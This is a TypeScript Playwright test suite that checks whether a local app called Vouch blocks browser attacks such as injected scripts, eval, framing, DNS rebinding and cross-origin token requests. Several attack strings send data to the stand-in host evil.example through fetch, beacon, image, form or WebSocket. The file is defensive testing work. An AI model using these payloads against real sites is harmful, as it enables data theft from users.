import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Browser, chromium, type Page } from 'playwright'
import type { Attack } from '../attack.ts'
import type { Target } from '../target.ts'

/** What script inside the real page, or another page in the same browser, can do. `address` is that of the host with the token already kept. */
export async function pageAttacks(
  target: Target,
  executablePath: string,
): Promise<{ attacks: readonly Attack[]; close: () => Promise<void> }> {
  const root = process.getuid?.() === 0
  const args = [
    '--disable-gpu',
    '--disable-background-networking',
    '--use-fake-device-for-media-stream',
    `--host-resolver-rules=MAP rebind.test 127.0.0.1`,
  ]
  const browser = await chromium.launch({ executablePath, args: root ? [...args, '--no-sandbox'] : args })
  const { page, strangers, close } = await openPages(browser, target)
  const blocked = (name: string, code: string, expect = /^(?:blocked|refused)/u): Attack => ({
    name,
    expect,
    attempt: () => inPage(page, code),
  })
  const stranger = (name: string, code: string): Attack => ({
    name,
    expect: /^(?:blocked|refused)/u,
    attempt: () => inPage(strangers, code),
  })
  const { origin, own, token, port } = target
  const attacks: Attack[] = [
    blocked(
      'inline script',
      `const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)`,
    ),
    blocked(
      'event handler in markup',
      `document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="window.ran = 1">')`,
    ),
    blocked(
      'script of another server',
      `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`,
    ),
    blocked(
      'script from a blob',
      `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.ran = 1'])); document.body.append(s)`,
    ),
    blocked('eval', `try { eval('window.ran = 1') } catch (e) { return 'blocked: ' + e.name }`),
    blocked('new Function', `try { new Function('window.ran = 1')() } catch (e) { return 'blocked: ' + e.name }`),
    blocked(
      'javascript: address',
      `const a = document.createElement('a'); a.href = 'javascript:window.ran=1'; document.body.append(a); a.click()`,
    ),
    blocked(
      'words sent to another server (fetch)',
      `try { await fetch('https://evil.example/', { method: 'POST', body: 'letter', mode: 'no-cors' }) } catch (e) { return 'blocked: ' + e.name }`,
    ),
    blocked('words sent in a picture’s address', `new Image().src = 'https://evil.example/?letter'`),
    blocked('words sent by beacon', `navigator.sendBeacon('https://evil.example/', 'letter')`),
    blocked('socket to another server', `new WebSocket('wss://evil.example/')`),
    blocked('socket to another port of this computer', `new WebSocket('ws://127.0.0.1:${port + 1}/')`),
    blocked(
      'form to another server',
      `const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit()`,
    ),
    blocked(
      'frame inside the page',
      `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)`,
    ),
    blocked(
      'other base for addresses',
      `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)`,
    ),
    blocked(
      'plug-in',
      `const o = document.createElement('object'); o.type = 'text/html'; o.data = '/'; document.body.append(o)`,
    ),
    blocked(
      'WebAssembly in the page',
      `try { await WebAssembly.compile(new Uint8Array([0,97,115,109,1,0,0,0])) } catch (e) { return 'blocked: ' + e.name }`,
    ),
    blocked(
      'camera and microphone',
      `try { await navigator.mediaDevices.getUserMedia({ video: true, audio: true }) } catch (e) { return 'blocked: ' + e.name }`,
    ),
    blocked(
      'whereabouts',
      `return await new Promise((go) => navigator.geolocation.getCurrentPosition(() => go('allowed'), (e) => go('blocked: ' + e.message)))`,
    ),
    stranger(
      'another local page reads the page of Vouch',
      `try { const r = await fetch('${origin}/'); return 'read ' + (await r.text()).length } catch (e) { return 'blocked: ' + e.name }`,
    ),
    stranger(
      'another local page asks for a token',
      `try { const r = await fetch('${origin}/session', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }); return 'answered ' + r.status } catch (e) { return 'blocked: ' + e.name }`,
    ),
    stranger(
      'another local page posts a form',
      `try { const r = await fetch('${origin}/session', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'code=x' }); return r.type === 'opaque' ? 'blocked: nothing can be read and the Origin is refused (403)' : 'read' } catch (e) { return 'blocked: ' + e.name }`,
    ),
    stranger(
      'another local page opens the socket, token known',
      `return await new Promise((go) => { const s = new WebSocket('ws://${own}/rpc', ['vouch', '${token}']); s.onopen = () => go('open'); s.onerror = () => go('refused by the Origin check (403)') })`,
    ),
    stranger(
      'another local page shows Vouch in a frame',
      `const f = document.createElement('iframe'); f.src = '${origin}/'; document.body.append(f); await new Promise((go) => { f.onload = go; setTimeout(go, 3000) }); try { return f.contentDocument === null ? 'blocked by frame-ancestors' : 'shown: ' + f.contentDocument.title } catch { return 'blocked by frame-ancestors' }`,
    ),
    {
      name: 'name of another server made to point here (rebinding)',
      expect: /^421/u,
      attempt: () => rebound(browser, port),
    },
    {
      name: 'token in the address, history or storage of others',
      expect: /^kept in this tab/u,
      attempt: () => tokenIn(page, strangers, token),
    },
  ]
  return { attacks, close }
}

interface Pages {
  readonly page: Page
  readonly strangers: Page
  readonly close: () => Promise<void>
}

async function openPages(browser: Browser, { origin, token }: Target): Promise<Pages> {
  const context = await browser.newContext()
  const page = await context.newPage()
  await page.addInitScript((kept) => {
    sessionStorage.setItem('vouch-token', kept)
    const seen: string[] = []
    Object.assign(window, { seen })
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
  }, token)
  await page.goto(origin)
  await page.getByRole('link', { name: 'Applications' }).waitFor()
  const server = createServer((_, response) =>
    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><body>'),
  )
  await new Promise<void>((go) => server.listen(0, '127.0.0.1', go))
  // A server that listens on a port has an address of this kind.
  const { port } = server.address() as AddressInfo
  const strangers = await context.newPage()
  await strangers.goto(`http://127.0.0.1:${port}/`)
  const close = async () => {
    await browser.close()
    server.close()
  }
  return { page, strangers, close }
}

/**
 * Runs code in a page: what it returned, else the rule of the content policy that stopped it, else "it ran". It is run from a timer, because the
 * browser's own debugger lifts the rule against `eval` while it evaluates.
 */
async function inPage(page: Page, code: string): Promise<string> {
  const before = page.url()
  const said: unknown = await page.evaluate(`new Promise((go) => setTimeout(async () => {
    const seen = window.seen ?? []
    seen.length = 0
    delete window.ran
    const returned = await (async () => { ${code} })().catch((error) => 'it broke: ' + error)
    await new Promise((on) => setTimeout(on, 600))
    if (window.ran) return go('it ran')
    go(returned ?? (seen[0] ? 'blocked by the content policy (' + seen[0] + ')' : 'nothing stopped it'))
  }))`)
  return page.url() === before ? String(said) : `the window went to ${page.url()}`
}

async function rebound(browser: Browser, port: number): Promise<string> {
  const page = await browser.newPage()
  const answer = await page.goto(`http://rebind.test:${port}/`)
  const said = `${answer?.status()} ${(await answer?.text())?.slice(0, 60) ?? ''}`
  await page.close()
  return said
}

async function tokenIn(page: Page, strangers: Page, token: string): Promise<string> {
  const places = async (one: Page) =>
    one.evaluate((secret) => {
      const held = [location.href, document.referrer, document.cookie, JSON.stringify(localStorage), name]
      return held.some((text) => String(text).includes(secret))
    }, token)
  const elsewhere = await strangers.evaluate((secret) => JSON.stringify(sessionStorage).includes(secret), token)
  return (await places(page)) || elsewhere ? 'it is seen elsewhere' : 'kept in this tab alone'
}
